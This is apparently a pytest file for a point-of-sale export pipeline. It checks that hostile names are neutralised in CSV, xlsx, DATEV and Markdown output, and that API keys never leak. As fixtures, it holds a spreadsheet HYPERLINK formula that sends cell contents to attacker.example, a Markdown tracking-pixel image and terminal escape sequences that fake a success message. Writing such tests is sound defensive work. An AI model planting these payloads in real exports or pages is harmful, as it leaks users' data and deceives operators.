"""POS text is untrusted: over real HTTP, a POS whose back office holds hostile names
(formulas, control characters, forged DATEV fields, Markdown, escape sequences) and
whose error answers echo the key. Every medium gets them in a form that cannot run:
CSV and xlsx exports, the DATEV file, the Dagster UI's Markdown, the terminal; no key
in any form reaches a file or the output."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest

from pipeline.accounting.datev import DATEV_COLUMNS, ENCODING
from pipeline.cli import main
from pipeline.core.reporting import Reporter
from pipeline.orchestration.loader import run_load
from pipeline.outputs.export import ExportError, Selection, export
from pos_sandbox.app import create_app
from pos_sandbox.server import serving
from tests.conftest import make_settings
from tests.hostile import altered_sandbox

ROOT = Path(__file__).resolve().parents[2]
DAY1, DAY2 = date(2026, 11, 19), date(2026, 11, 20)
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")'
NAMES = {"Bar": FORMULA, "Bankomat": "Bankomat\r\nFAKE;\"1\";2\x00\x1b[2J ł€"}
IMAGE = "![x](http://attacker.example/pixel.png)"
ITEM = "Schnitzel\x00\x1b[31m@SUM(1+1)"


def hostile_names(location, rows):
    """DAY1: a payment type whose fibuAccountNr would forge a booking; DAY2: formulas,
    control characters, quotes and characters outside Windows-1252 in names, and a
    transaction type made of Markdown."""
    for r in rows:
        day = r["dateTime"][:10]
        for p in r.get("payments") or []:
            if day == DAY1.strftime("%d.%m.%Y") and p["paymentType"]["name"] == "Bankomat":
                p["fibuAccountNr"] = "1;2;3"
            elif day == DAY2.strftime("%d.%m.%Y"):
                p["paymentType"]["name"] = NAMES.get(p["paymentType"]["name"],
                                                     p["paymentType"]["name"])
        if day == DAY2.strftime("%d.%m.%Y"):
            for item in r.get("items") or []:
                item["name"] = ITEM
    second = [r for r in rows if r["dateTime"].startswith(DAY2.strftime("%d.%m.%Y"))]
    if second:
        second[0]["transactionType"] = IMAGE
    return rows


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A warehouse loaded from the hostile POS: location 1001, DAY1 and DAY2."""
    from pos_sandbox import world

    data_dir = tmp_path_factory.mktemp("hostile") / "data"
    mp = pytest.MonkeyPatch()
    for loc in world.LOCATIONS:
        mp.setenv(f"POS_TEST_KEY_{loc.id}", loc.api_key)
    try:
        with altered_sandbox(hostile_names) as url:
            settings = make_settings(url, data_dir)
            report = run_load(settings, DAY1, DAY2, [1001], catalog=False,
                              progress=Reporter())
    finally:
        mp.undo()
    assert report.ok, report.summary()
    return settings, report


def test_csv_fields_a_spreadsheet_would_run_are_neutralised_unless_raw(hostile, tmp_path):
    settings, _ = hostile
    sel = Selection("fct_payments", DAY2, DAY2, [1001])
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    export(settings, sel, "csv", safe)
    export(settings, sel, "csv", raw, raw_text=True)
    names = {r["payment_type_name"] for r in csv.DictReader(safe.open(newline=""))}
    assert "'" + FORMULA in names and FORMULA not in names
    assert {r["payment_type_name"] for r in csv.DictReader(raw.open(newline=""))} >= {FORMULA}
    items = Selection("fct_receipt_items", DAY2, DAY2, [1001])
    export(settings, items, "csv", safe)
    for row in csv.DictReader(safe.open(newline="", encoding="utf-8")):
        for value in row.values():
            assert not re.match(r"[=+@\t\r]|-(?![0-9.,]+$)", value), value


def test_xlsx_cells_are_strings_never_formulas_and_control_characters_are_replaced(
        hostile, tmp_path):
    from openpyxl import load_workbook

    settings, _ = hostile
    target = tmp_path / "payments.xlsx"
    export(settings, Selection("fct_payments", DAY2, DAY2, [1001]), "xlsx", target)
    ws = load_workbook(target).active
    cells = [c for row in ws.iter_rows(min_row=2, max_row=ws.max_row - 1) for c in row
             if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    # the only formulas: the totals row's own SUBTOTALs
    assert {str(c.value)[:14] for c in ws[ws.max_row] if c.data_type == "f"} == \
        {"=SUBTOTAL(109,"}
    assert FORMULA in {c.value for c in cells}
    target = tmp_path / "items.xlsx"
    export(settings, Selection("fct_receipt_items", DAY2, DAY2, [1001]), "xlsx", target)
    names = {c.value for row in load_workbook(target).active.iter_rows(min_row=2)
             for c in row if isinstance(c.value, str) and c.value.startswith("Schnitzel")}
    assert names == {"Schnitzel\ufffd\ufffd[31m@SUM(1+1)"}


def extf_records(raw: bytes) -> list[list[str]]:
    """An EXTF reader of its own, from DATEV's rules rather than Python's csv module:
    records end in CR LF, fields are split at ';' outside quotes, a text field is
    quoted with inner quotes doubled, and no control character may stand in a field."""
    text = raw.decode(ENCODING)
    assert text.endswith("\r\n")
    records = []
    for line in text[:-2].split("\r\n"):
        fields, field, quoted, i = [], "", False, 0
        while i < len(line):
            ch = line[i]
            assert ch >= " ", f"control character {ch!r} in {line!r}"
            if quoted and ch == '"' and line[i + 1:i + 2] == '"':
                field, i = field + '"', i + 2
                continue
            if ch == '"':
                quoted = not quoted
            elif ch == ";" and not quoted:
                fields.append(field)
                field = ""
            else:
                field += ch
            i += 1
        assert not quoted, f"unclosed quote in {line!r}"
        records.append([*fields, field])
    return records


def test_datev_refuses_a_forged_account_naming_where_it_comes_from(hostile, tmp_path):
    settings, _ = hostile
    target = tmp_path / "EXTF.csv"
    with pytest.raises(ExportError) as failed:
        export(settings, Selection("rpt_daily_close", DAY1, DAY1, [1001]), "datev", target)
    message = str(failed.value)
    # no account of the chart: refused as unmapped, naming type, POS account and where
    assert "payment type(s) without an account in EKR: 'Bankomat' (the POS's account " \
           "1;2;3; first location 1001, business date 2026-11-19)" in message
    assert not target.exists() and not list(tmp_path.iterdir())


def test_datev_text_fields_cannot_break_a_record_and_foreign_characters_are_counted(
        hostile, tmp_path):
    settings, _ = hostile
    target = tmp_path / "EXTF.csv"
    done = export(settings, Selection("rpt_daily_close", DAY2, DAY2, [1001]), "datev", target)
    assert done.warnings[0] == "1 character(s) outside Windows-1252 in 1 booking text(s) " \
        "were transliterated for DATEV: ł -> l"
    raw = target.read_bytes()
    records = extf_records(raw)
    assert len(records) == done.rows + 2 and len(records[1]) == len(DATEV_COLUMNS)
    for record in records[2:]:
        assert len(record) == len(DATEV_COLUMNS)
        assert re.fullmatch(r"\d{1,10},\d{2}", record[0]) and record[1] in ("S", "H")
        assert re.fullmatch(r"\d{1,9}", record[6]) and re.fullmatch(r"\d{1,9}", record[7])
        assert re.fullmatch(r"\d{4}", record[9]) and len(record[13]) <= 60
    texts = {r[13] for r in records[2:]}
    assert any(t.startswith("Bankomat  FAKE;\"1\";2  [2J l€") for t in texts), texts
    # Python's quote-aware reader sees the same records
    rows = list(csv.reader(io.StringIO(raw.decode(ENCODING), newline=""), delimiter=";"))
    assert [len(r) for r in rows[1:]] == [len(DATEV_COLUMNS)] * (done.rows + 1)


def test_markdown_metadata_shows_pos_text_as_text(hostile):
    import dagster as dg

    from pipeline.orchestration.instance import open_instance

    settings, _ = hostile
    with open_instance(settings) as instance:  # a date with a failed location: observed
        records = [r.event_log_entry.asset_materialization or r.event_log_entry.asset_observation
                   for fetch in (instance.fetch_materializations, instance.fetch_observations)
                   for r in fetch(dg.AssetKey(["lake", "revenue"]), limit=10).records]
    tables = [m.metadata["locations"].value for m in records]
    shown = next(t for t in tables if "attacker" in t)
    assert IMAGE not in shown and r"\!\[x\]\(http\://attacker\.example/pixel\.png\)" in shown


KEY = "Xk9Qz7rT5vWm2Lp8Nd4Hs6Gb3Jc1Fy0e"
PASSWORD = "s3cr3tPassw0rd"


class EchoingPos:
    """The sandbox, except location 1002's revenue report: HTTP 400 with a body that
    echoes the key lower-cased and partly masked, and escape sequences that would clear
    the terminal and print a fake message."""

    def __init__(self):
        self.app = create_app()

    async def __call__(self, scope, receive, send):
        if scope["type"] == "http" and "/locations/1002/reports" in scope["path"]:
            body = (f"bad request for key {KEY.lower()} (also {KEY[:26]}******)\r"
                    "\x1b[2J\x1b[H\x1b[32mALL LOADED, result: OK\x1b[0m").encode()
            await send({"type": "http.response.start", "status": 400,
                        "headers": [(b"content-type", b"text/plain")]})
            await send({"type": "http.response.body", "body": body})
            return
        await self.app(scope, receive, send)


def key_forms(text: str) -> list[str]:
    """Where ``text`` gives away the key or the password: any 8 characters of either."""
    low = text.lower()
    return [s for secret in (KEY, PASSWORD) for i in range(len(secret) - 7)
            if (s := secret[i:i + 8].lower()) in low]


def test_keys_in_any_form_and_escape_sequences_reach_no_file_and_no_terminal(tmp_path):
    from pos_sandbox import world

    with serving(EchoingPos()) as url:
        host = url.removeprefix("http://")
        config = tmp_path / "pos.toml"
        config.write_text(
            f'[source]\nbase_url = "http://admin:{PASSWORD}@{host}"\nmax_attempts = 1\n'
            '[warehouse]\ndata_dir = "data"\n'
            + "".join(f'[[locations]]\nid = {loc.id}\nshort_code = "{loc.short_code}"\n'
                      f'api_key_env = "POS_TEST_KEY_{loc.id}"\n'
                      for loc in world.LOCATIONS[:2]))
        env = {k: v for k, v in os.environ.items() if k not in ("DAGSTER_HOME",
                                                               "POS_ETL_CONFIG")}
        env |= {"POS_TEST_KEY_1001": world.LOCATIONS[0].api_key, "POS_TEST_KEY_1002": KEY}
        done = subprocess.run(
            [sys.executable, "-m", "pipeline.cli", "load", "--config", str(config),
             "--start", str(DAY2), "--end", str(DAY2), "--no-catalog"],
            cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
    output = done.stdout + done.stderr
    assert done.returncode == 1, output
    assert "FAILED 1002 2026-11-20" in output and "answered HTTP 400" in output
    assert "\x1b" not in output and "\r" not in output
    assert not key_forms(output), output
    # the same POS gone: the unreachable address is named without its credentials
    done = subprocess.run(
        [sys.executable, "-m", "pipeline.cli", "load", "--config", str(config),
         "--start", str(DAY2), "--end", str(DAY2), "--no-catalog"],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
    output = done.stdout + done.stderr
    assert done.returncode == 1 and f"the POS at http://***@{host} is unreachable" in output
    assert not key_forms(output), output
    leaks = {str(p.relative_to(tmp_path)): found for p in (tmp_path / "data").rglob("*")
             if p.is_file() and (found := key_forms(p.read_bytes().decode("latin-1")))}
    assert not leaks


def test_config_mistakes_are_one_line_with_their_key_path_and_exit_2(tmp_path, capsys):
    base = ('[[locations]]\nid = 1001\nshort_code = "VIE01"\napi_key_env = "K"\n')
    cases = {
        '[schedule]\ntimezone = "Mars/Olympus"\n': "schedule.timezone: Value error, unknown "
                                                   "time zone 'Mars/Olympus'",
        '[schedule]\ncron = "61 25 * *"\n': "schedule.cron: Value error, '61 25 * *' is not "
                                            "a cron schedule",
        '[source]\nread_timeout_seconds = inf\n': "source.read_timeout_seconds: Input "
                                                  "should be a finite number",
        '[warehouse]\ndata_dir = "da?ta"\n': "warehouse.data_dir:",
        '[warehouse]\ndata_dir = "data[1]"\n': "holds [ ]",
        '[warehouse]\ndata_dir = "my%20data"\n': "holds %",
    }
    for text, said in cases.items():
        config = tmp_path / "pos.toml"
        config.write_text(text + base)
        assert main(["build", "--config", str(config)]) == 2
        err = capsys.readouterr().err
        assert said in err and "Traceback" not in err, err
    assert not [p for p in tmp_path.iterdir() if p.name != "pos.toml"]
    done = subprocess.run([sys.executable, "-m", "pipeline.cli", "load", "--days", "99999999"],
                          cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert done.returncode == 2
    assert "'--days': 99999999 is not in the range 1<=x<=36600" in done.stderr
    assert "Traceback" not in done.stderr


def test_a_broken_warehouse_or_lake_file_is_one_line_naming_the_file(hostile, tmp_path,
                                                                       capsys, monkeypatch):
    import shutil

    settings, _ = hostile
    data = tmp_path / "data"
    shutil.copytree(settings.warehouse.data_dir, data, ignore=shutil.ignore_patterns(
        "dagster_home"))
    monkeypatch.setenv("POS_ETL_DATA_DIR", str(data))
    monkeypatch.delenv("POS_ETL_CONFIG", raising=False)
    victim = next((data / "lake" / "revenue").rglob("*.parquet"))
    victim.write_bytes(victim.read_bytes()[:100])
    assert main(["build", "--full"]) == 1
    out = capsys.readouterr().out
    failed = next(line for line in out.splitlines() if "FAILED warehouse_models" in line)
    assert victim.name in failed
    (data / "warehouse.duckdb").unlink()
    (data / "warehouse.duckdb").mkdir()
    for command in (["report"], ["docs"], ["export", "rpt_daily_close", "-o",
                                            str(tmp_path / "x.csv")]):
        assert main(command) == 1
        notice, err = capsys.readouterr().err.split("\n", 1)  # the sandbox's notice first
        assert notice.startswith("no config (--config or $POS_ETL_CONFIG): using the built-in")
        assert err.count("\n") == 1 and "warehouse.duckdb is not a file" in err, err


def test_exports_leave_nothing_behind_and_write_through_symlinks(hostile, tmp_path):
    settings, _ = hostile
    sel = Selection("fct_receipt_items", DAY2, DAY2, [1001])
    real = tmp_path / "real.xlsx"
    real.write_text("old")
    link = tmp_path / "link.xlsx"
    link.symlink_to(real)
    left = tmp_path / f".real.xlsx.{2**22 + 12345}.export"  # a killed export's folder
    left.mkdir()
    (left / "tmp1234").write_text("rows of a killed export")
    export(settings, sel, "xlsx", link)
    assert link.is_symlink() and real.read_bytes()[:2] == b"PK"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.xlsx", "real.xlsx"]
    # the writer's scratch files live beside the target, never in the system's temp
    scratch_tmp = tmp_path / "tmp"
    scratch_tmp.mkdir()
    env = {k: v for k, v in os.environ.items() if k != "POS_ETL_CONFIG"}
    env |= {"TMPDIR": str(scratch_tmp), "POS_ETL_DATA_DIR": str(settings.warehouse.data_dir)}
    done = subprocess.run([sys.executable, "-m", "pipeline.cli", "export",
                           "fct_receipt_items", "-o", str(tmp_path / "x.xlsx")],
                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert not list(scratch_tmp.iterdir())
    # an export that fails mid-way leaves neither its scratch folder nor a target
    from pipeline.outputs import export as module

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(module, "XLSX_MAX_ROWS", 10)
        with pytest.raises(ExportError, match="Excel's limit"):
            export(settings, sel, "xlsx", tmp_path / "big.xlsx")
    assert not [p for p in tmp_path.iterdir() if p.name.startswith((".big", "big"))]
